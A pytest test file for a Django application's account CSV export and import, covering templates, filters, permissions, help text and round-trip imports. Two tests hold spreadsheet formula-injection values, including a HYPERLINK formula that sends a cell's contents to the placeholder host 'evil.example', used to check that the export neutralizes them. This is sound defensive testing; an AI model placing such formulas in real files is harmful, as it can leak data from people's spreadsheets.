import csv
import io
from decimal import Decimal

import pytest
from django.http import StreamingHttpResponse
from django.urls import reverse
from django.utils import timezone
from pytest_django.asserts import assertContains, assertNotContains

from accounts import rules
from accounts.models import Account, AccountStatus, DocumentType
from imports import columns, exports, services
from imports.models import ImportJob
from tests.factories import AccountFactory, UserFactory

HEADER_LINE = (
    "Id,Email,Document,Document Type,Credit limit,Tolerance rate,Status,Balance,"
    "Available credit,Available balance,Pre-authorized credit,Created at,Updated at\r\n"
)
DOWNLOAD_URLS = ["imports:template-help", "imports:template", "imports:example", "imports:export"]


def csv_rows(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf"), "UTF-8 byte order mark, for Excel"
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def exported(client, **params) -> tuple[StreamingHttpResponse, list[list[str]]]:
    response = client.get(reverse("imports:export"), params)
    content = b"".join(response.streaming_content)
    return response, csv_rows(content)


def test_template_is_the_header_row_only_with_bom_and_crlf(viewer_client):
    response = viewer_client.get(reverse("imports:template"))
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="accounts-template.csv"'
    assert response.content == b"\xef\xbb\xbf" + HEADER_LINE.encode()


def test_example_rows_are_valid_new_accounts_by_the_account_rules(viewer_client):
    response = viewer_client.get(reverse("imports:example"))
    assert response["Content-Disposition"] == 'attachment; filename="accounts-example.csv"'
    assert b"\r\n" in response.content and b"\n" not in response.content.replace(b"\r\n", b"")
    header, *rows = csv_rows(response.content)
    assert header == columns.template_header()
    assert len(rows) >= 3
    documents = []
    for row in rows:
        cells = dict(zip(header, row, strict=True))
        assert cells["Id"] == "", "an example row creates an account"
        assert rules.clean_email(cells["Email"])
        document_type = rules.clean_document_type(cells["Document Type"])
        documents.append(rules.clean_document(document_type, cells["Document"]))
        if cells["Credit limit"]:
            rules.clean_credit_limit(cells["Credit limit"])
        if cells["Tolerance rate"]:
            rules.clean_tolerance(cells["Tolerance rate"])
        if cells["Status"]:
            assert rules.clean_status(cells["Status"]) == AccountStatus.OPEN
        assert all(cells[name] == "" for name in columns.template_header()[7:])
    assert "12ABC34501DE35" in documents, "a CNPJ with letters, as issued since July 2026"
    assert any(not cell for row in rows for cell in row[1:7]), "optional cells left blank"
    assert len({row[1] for row in rows}) == len(rows), "one open account per e-mail"


def test_example_file_imports_as_new_accounts_without_errors(viewer_client, manager, tmp_path):
    path = tmp_path / "accounts-example.csv"
    path.write_bytes(viewer_client.get(reverse("imports:example")).content)

    job = services.import_file(path=path, user=manager, confirm=True)

    assert list(job.row_errors.values_list("row_number", "code")) == []
    assert (job.status, job.created_count) == (ImportJob.Status.COMPLETED, 5)
    account = Account.objects.get(email="financeiro@atacado-horizonte.example.com")
    assert (account.document_type, account.document) == ("CNPJ", "12ABC34501DE35")


@pytest.mark.django_db
def test_export_respects_the_accounts_page_filters_and_sort(viewer_client):
    AccountFactory(email="bia@example.com", status=AccountStatus.CLOSED)
    AccountFactory(email="caio@example.com", cnpj=True)
    AccountFactory(email="ana@example.com", cnpj=True)
    AccountFactory(email="duda@example.com")

    _, rows = exported(viewer_client, document_type="CNPJ", sort="email")
    assert [row[1] for row in rows[1:]] == ["ana@example.com", "caio@example.com"]

    _, rows = exported(viewer_client, status="Closed")
    assert [row[1] for row in rows[1:]] == ["bia@example.com"]
    assert rows[1][6] == "Closed"

    _, rows = exported(viewer_client, q="duda@example.com")
    assert [row[1] for row in rows[1:]] == ["duda@example.com"]

    _, rows = exported(viewer_client, sort="-email")
    assert [row[1] for row in rows[1:]] == [
        "duda@example.com",
        "caio@example.com",
        "bia@example.com",
        "ana@example.com",
    ]


@pytest.mark.django_db
def test_export_streams_the_template_format_with_a_dated_file_name(viewer_client):
    account = AccountFactory(
        cnpj=True,
        document="12ABC34501DE35",
        email="loja@example.com",
        credit_limit=Decimal("2500.00"),
        tolerance=Decimal("0.1"),
        balance=Decimal("-5.00"),
    )
    response, rows = exported(viewer_client, HTTP_ACCEPT_LANGUAGE="pt-br")
    assert isinstance(response, StreamingHttpResponse)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == (
        f'attachment; filename="accounts-{timezone.localdate():%Y-%m-%d}.csv"'
    )
    assert response["Cache-Control"] == "no-store"
    assert response["X-Accel-Buffering"] == "no"
    assert rows[0] == columns.template_header()
    assert rows[1][:10] == [
        account.pk,
        "loja@example.com",
        "12.ABC.345/01DE-35",
        "CNPJ",
        "2500.00",
        "0.1000",
        "Open",
        "-5.00",  # a plain negative number is not quoted: it stays a number
        "2495.00",
        "2495.00",
    ]
    assert rows[1][11].endswith("Z") and rows[1][11][:4].isdigit()


@pytest.mark.django_db
def test_export_lines_end_with_crlf(viewer_client):
    AccountFactory.create_batch(2)
    response = viewer_client.get(reverse("imports:export"))
    content = b"".join(response.streaming_content)
    assert content.count(b"\r\n") == 3
    assert b"\n" not in content.replace(b"\r\n", b"")


@pytest.mark.django_db
def test_export_neutralizes_cells_a_spreadsheet_would_run(viewer_client):
    AccountFactory(
        email="=1+2@example.com",
        document_type=DocumentType.OTHER,
        document='=HYPERLINK("http://evil.example/?"&A1,"Go")',
    )
    _, rows = exported(viewer_client)
    assert rows[1][1] == "'=1+2@example.com"
    assert rows[1][2] == '\'=HYPERLINK("http://evil.example/?"&A1,"Go")'
    assert rows[1][3] == "Other"


@pytest.mark.django_db
@pytest.mark.parametrize("account_count", [3, 45])
def test_export_query_count_does_not_grow_with_the_number_of_accounts(
    viewer_client, django_assert_max_num_queries, monkeypatch, account_count
):
    # Small chunks, so 45 accounts take several round trips: still one query.
    monkeypatch.setattr(exports, "EXPORT_CHUNK_SIZE", 10)
    AccountFactory.create_batch(account_count)
    with django_assert_max_num_queries(5):
        _, rows = exported(viewer_client)
    assert len(rows) == account_count + 1


@pytest.mark.django_db
@pytest.mark.parametrize("url_name", DOWNLOAD_URLS)
def test_anonymous_visitor_is_sent_to_log_in(client, url_name):
    url = reverse(url_name)
    response = client.get(url)
    assert response.status_code == 302
    assert response["Location"] == f"{reverse('login')}?next={url}"


@pytest.mark.django_db
@pytest.mark.parametrize("url_name", DOWNLOAD_URLS)
def test_user_without_account_permissions_is_refused(client, url_name):
    client.force_login(UserFactory(username="outsider"))
    assert client.get(reverse(url_name)).status_code == 403


@pytest.mark.parametrize("url_name", DOWNLOAD_URLS)
def test_viewers_and_managers_may_read_help_and_download(viewer_client, manager, url_name):
    assert viewer_client.get(reverse(url_name)).status_code == 200
    viewer_client.force_login(manager)
    assert viewer_client.get(reverse(url_name)).status_code == 200


def test_template_help_explains_every_column_and_links_the_downloads(manager_client):
    response = manager_client.get(reverse("imports:template-help"))
    for header in columns.template_header():
        assertContains(response, f">{header}</code>")
    assertContains(response, ">Required</span>", count=1)
    assertContains(response, ">Required for new accounts</span>", count=1)
    assertContains(response, "The last six columns are filled by <strong>Export</strong>")
    assertContains(response, "Closing is irreversible.")
    assertContains(response, "Blank cells leave fields unchanged.")
    assertContains(response, "semicolons")
    assertContains(response, f'href="{reverse("imports:template")}"', count=2)
    assertContains(response, f'href="{reverse("imports:example")}"', count=2)
    assertContains(response, f'href="{reverse("imports:upload")}"', count=2)
    assertContains(response, "Download template")
    assertContains(response, "Download example")


def test_viewer_reads_the_help_but_is_not_offered_an_upload_they_may_not_do(viewer_client):
    response = viewer_client.get(reverse("imports:template-help"))
    assertContains(response, f'href="{reverse("imports:template")}"', count=2)
    assertNotContains(response, f'href="{reverse("imports:upload")}"')
    assertNotContains(response, f'href="{reverse("imports:start")}"')
    assertContains(response, "Uploading needs the permission to import accounts")


def test_template_help_speaks_the_users_language_but_keeps_english_headers(viewer_client):
    response = viewer_client.get(reverse("imports:template-help"), HTTP_ACCEPT_LANGUAGE="es")
    assertContains(response, ">Credit limit</code>")
    assertContains(response, 'lang="es"')


@pytest.mark.django_db
def test_accounts_page_export_button_keeps_the_filters(viewer_client):
    response = viewer_client.get("/", {"status": "Open", "sort": "-email"})
    assertContains(response, f'href="{reverse("imports:export")}?status=Open&amp;sort=-email"')
    assertNotContains(response, f'href="{reverse("imports:start")}"')


@pytest.mark.django_db
def test_accounts_page_shows_import_to_managers(manager_client):
    response = manager_client.get("/")
    assertContains(response, f'href="{reverse("imports:start")}"')
    assertContains(response, f'href="{reverse("imports:export")}"')
    assertContains(response, 'href="/accounts/new/"')


def import_back(client, user, tmp_path, **params):
    """Export with the page's filters, then validate that very file with the import pipeline."""
    response = client.get(reverse("imports:export"), params)
    path = tmp_path / "accounts-export.csv"
    path.write_bytes(b"".join(response.streaming_content))
    return services.import_file(path=path, user=user, confirm=False)


@pytest.mark.django_db
def test_exported_file_imports_back_with_every_row_unchanged(manager_client, manager, tmp_path):
    AccountFactory(document="01234567890", email="ana.silva@example.com")
    AccountFactory(cnpj=True, document="12ABC34501DE35", tolerance=Decimal("0.0525"))
    AccountFactory(
        email="-2+3@example.com",
        document_type=DocumentType.OTHER,
        document='=HYPERLINK("http://evil.example","Click")',
        balance=Decimal("-120.50"),
        pre_authorized_credit=Decimal("10.00"),
    )
    # A customer whose account was closed and who got a new one: same e-mail and document.
    AccountFactory(email="bia@example.com", document="52998224725", status=AccountStatus.CLOSED)
    AccountFactory(email="bia@example.com", document="52998224725")

    job = import_back(manager_client, manager, tmp_path)

    assert job.file_error == ""
    assert list(job.row_errors.values_list("row_number", "code")) == []
    assert job.status == ImportJob.Status.READY_TO_CONFIRM
    assert (job.to_create, job.to_update, job.to_close, job.unchanged_count) == (0, 0, 0, 5)


@pytest.mark.django_db
def test_filtered_export_imports_back_unchanged(manager_client, manager, tmp_path):
    AccountFactory.create_batch(3, cnpj=True)
    AccountFactory.create_batch(2)

    job = import_back(manager_client, manager, tmp_path, document_type="CNPJ", sort="email")

    assert (job.status, job.unchanged_count, job.error_count) == ("ready_to_confirm", 3, 0)
